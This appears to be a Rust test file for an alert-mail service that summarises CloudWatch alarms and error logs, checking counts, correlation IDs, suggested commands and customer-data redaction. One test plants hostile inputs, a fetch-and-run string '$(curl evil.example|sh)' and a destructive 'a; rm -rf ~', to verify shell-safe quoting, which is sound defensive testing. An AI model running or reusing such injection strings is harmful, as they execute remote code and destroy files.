//! What a mail says: counts, the case, commands and links.

use super::*;

/// A line as a function writes it.
fn logged(bench: &Bench, function: &str, ms_ago: i64, line: &serde_json::Value) {
    let id = bench.world.ids.fetch_add(1, Ordering::Relaxed);
    let at = bench.world.now().as_millisecond() - ms_ago;
    let event = json!({"id": id.to_string(), "timestamp": at, "message": line.to_string()});
    let event: LogEvent = serde_json::from_value(event).unwrap();
    bench
        .world
        .lines
        .lock()
        .unwrap()
        .push((function.to_owned(), event));
}

fn error(message: &str, request: &str) -> serde_json::Value {
    json!({"level": "ERROR", "message": message, "requestId": request, "correlation_id": format!("c-{request}")})
}

async fn mail(bench: &Bench, event: Event) -> Mail {
    bench.handle(event).await.unwrap();
    bench.world.mails.lock().unwrap().last().expect("a mail").clone()
}

fn page(bench: &Bench) -> Event {
    alarm("shopfast-order-service-errors", "ALARM", bench.world.now())
}

fn composite(bench: &Bench, name: &str) -> Event {
    composite_of(bench, name, &[])
}

fn composite_of(bench: &Bench, name: &str, children: &[&str]) -> Event {
    let arn =
        |child: &&str| json!({"Arn": format!("arn:aws:cloudwatch:us-east-1:123456789012:alarm:{child}")});
    let message = json!({"AlarmName": name, "NewStateValue": "ALARM", "StateChangeTime": bench.world.now().to_string(),
        "AlarmRule": "ALARM(a)", "TriggeringChildren": children.iter().map(arn).collect::<Vec<_>>()});
    Event::Notifications(vec![Ok(AlarmNotification::read(&message.to_string()).unwrap())])
}

/// Where nothing failed in the last ten minutes, what a part looked at is looked at for the whole, if it says so.
#[tokio::test]
async fn a_composite_looks_back_as_far_as_its_parts() {
    let check = async |child: &str, expected: bool| {
        let bench = Bench::new();
        logged(&bench, ORDERS, 0, &error("charge the card", "r-1"));
        bench.advance(120);
        let name = "shopfast-order-service-failing";
        let text = mail(&bench, composite_of(&bench, name, &[child])).await.text;
        assert_eq!(text.contains("charge the card"), expected, "{text}");
    };
    check("shopfast-order-service-hourly", true).await;
    check("shopfast-order-service-errors", false).await;
}

/// One invocation that says three things failed once; kinds have their lines.
#[tokio::test]
async fn failures_are_invocations_and_kinds_are_lines() {
    let bench = Bench::new();
    for request in ["r-1", "r-2"] {
        for _ in 0..3 {
            logged(&bench, ORDERS, 5_000, &error("charge the card", request));
        }
        logged(&bench, ORDERS, 4_000, &error("place the order", request));
    }
    logged(
        &bench,
        ORDERS,
        4_000,
        &json!({"level": "ERROR", "message": "without a request"}),
    );
    let mail = mail(&bench, page(&bench)).await;
    assert_eq!(mail.subject, "PAGE shopfast-order-service: errors, 3 errors");
    assert!(
        mail.text.contains("6x charge the card") && mail.text.contains("2x place the order"),
        "{}",
        mail.text
    );
}

/// A trace may take minutes to be found.
#[tokio::test]
async fn the_case_is_one_that_has_its_trace_by_now() {
    let bench = Bench::new();
    for (seconds_ago, request) in [(400, "old"), (160, "traced"), (100, "fresh"), (2, "newest")] {
        logged(
            &bench,
            ORDERS,
            seconds_ago * 1_000,
            &error("charge the card", request),
        );
    }
    let text = mail(&bench, page(&bench)).await.text;
    assert!(text.contains("shopwatch trace c-traced"), "{text}");
}

/// An environment that did not start has no ID that leads anywhere; the invocation that waited for it has.
#[tokio::test]
async fn the_case_is_one_with_an_id() {
    let bench = Bench::new();
    let init = json!({"type": "platform.initReport", "record": {"status": "error", "errorType": "Runtime.ExitError"}});
    logged(&bench, ORDERS, 9_000, &init);
    logged(&bench, ORDERS, 8_000, &init);
    logged(&bench, ORDERS, 7_000, &error("nobody was there", "r-1"));
    let text = mail(&bench, page(&bench)).await.text;
    let (_, case) = text.split_once("ONE CASE").expect("a case");
    assert!(case.contains("correlation ID c-r-1"), "{text}");
}

/// A kind that waits and is in the window is one kind.
#[tokio::test]
async fn kinds_are_counted_once() {
    let bench = Bench::new();
    for kind in ["a", "b", "c", "d", "e", "f", "g", "h"] {
        let batch = bench.lines(ORDERS, &[(&format!("failure of kind {kind}"), 2)]);
        bench.handle(batch).await.unwrap();
    }
    // Two of eight wait; five are shown.
    let text = mail(&bench, page(&bench)).await.text;
    assert!(text.contains("and 3 kinds more"), "{text}");
}

/// What waited is told with what came since, and not with all that ever was.
#[tokio::test]
async fn what_waited_is_counted_since_it_waits() {
    let bench = Bench::new();
    for kind in ["a", "b", "c", "d", "e", "f"] {
        let batch = bench.lines(ORDERS, &[(&format!("failure of kind {kind}"), 1)]);
        bench.handle(batch).await.unwrap();
    }
    // Kind `a` is known by now, and bursts while there is no room.
    for count in [60, 7] {
        bench.advance(1);
        let batch = bench.lines(ORDERS, &[("failure of kind a", count)]);
        bench.handle(batch).await.unwrap();
    }
    bench.advance(61);
    let mail = mail(&bench, Event::Tick).await;
    assert_eq!(
        mail.subject,
        "DIGEST several services: 1 kinds of errors, 67 errors"
    );
    assert!(
        mail.text.contains("67x conflict: failure of kind a\n   BURST"),
        "{}",
        mail.text
    );
}

#[tokio::test]
async fn commands_are_about_what_fails() {
    let bench = Bench::new();
    // Nothing is known of where it fails.
    let text = mail(&bench, composite(&bench, "shopfast-checkout-down"))
        .await
        .text;
    assert!(
        text.contains("   shopwatch logs --level error --since 1h\n"),
        "{text}"
    );
    assert!(
        text.contains("https://console.example/#dashboards/dashboard/shopfast-incident-api\n"),
        "{text}"
    );
    // The one that fails most.
    for n in 0..3 {
        logged(
            &bench,
            "shopfast-payment-processor",
            5_000,
            &error("charge the card", &format!("r-{n}")),
        );
    }
    logged(&bench, ORDERS, 5_000, &error("place the order", "r-9"));
    bench.advance(1);
    let children = [
        "shopfast-order-service-errors",
        "shopfast-payment-processor-errors",
    ];
    let event = composite_of(&bench, "shopfast-orders-failing", &children);
    let text = mail(&bench, event).await.text;
    assert!(
        text.contains("   shopwatch logs --function shopfast-payment-processor --level"),
        "{text}"
    );
    assert!(text.contains("#dashboards/dashboard/shopfast\n"), "{text}");
    // Which of all functions an alarm is about that names none nobody knows.
    let text = mail(&bench, composite(&bench, "somebody-elses")).await.text;
    assert!(
        text.contains("   shopwatch logs --level error --since 1h\n"),
        "{text}"
    );
    assert!(text.contains("#dashboards/dashboard/shopfast\n"), "{text}");
}

/// What stands in lines and messages is typed by somebody.
#[tokio::test]
async fn commands_are_safe_to_paste() {
    let bench = Bench::new();
    let evil = json!({"level": "ERROR", "message": "m", "correlation_id": "$(curl evil.example|sh)"});
    logged(&bench, ORDERS, 5_000, &evil);
    let text = mail(&bench, composite(&bench, "a; rm -rf ~")).await.text;
    let typed = text.split("NOW TYPE").nth(1).unwrap();
    assert!(!text.contains("shopwatch trace"), "{text}");
    assert!(
        typed.contains("shopwatch runbooks run 'a; rm -rf ~'\n"),
        "{typed}"
    );
}

/// Neither the lines nor the hops of the case say who it was.
#[tokio::test]
async fn no_mail_shows_whom_it_hits() {
    let bench = Bench::new();
    let message =
        r#"refused {"customer":{"name":"Ada Lovelace","phone":"0151 2345678"},"product":{"name":"Shoe"}}"#;
    logged(&bench, ORDERS, 0, &error(message, "of-ada"));
    bench.advance(1);
    let mail = mail(&bench, page(&bench)).await;
    for text in [&mail.text, &mail.html] {
        for told in ["Lovelace", "2345678", "Main St"] {
            assert!(!text.contains(told), "{text}");
        }
        for told in ["Shoe", "[name]", "street=[address], call [phone]"] {
            assert!(text.contains(told), "{told}: {text}");
        }
    }
}
